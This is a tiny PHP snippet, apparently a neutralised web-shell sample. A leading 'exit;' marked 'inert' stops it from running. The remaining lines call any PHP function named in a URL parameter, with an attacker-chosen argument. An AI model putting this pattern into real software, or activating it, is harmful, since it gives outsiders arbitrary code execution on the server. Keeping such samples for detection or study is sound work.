<?php exit; /* inert */ 
$r = new ReflectionFunction($_GET['fn']);
echo $r->invoke($_GET['arg']);
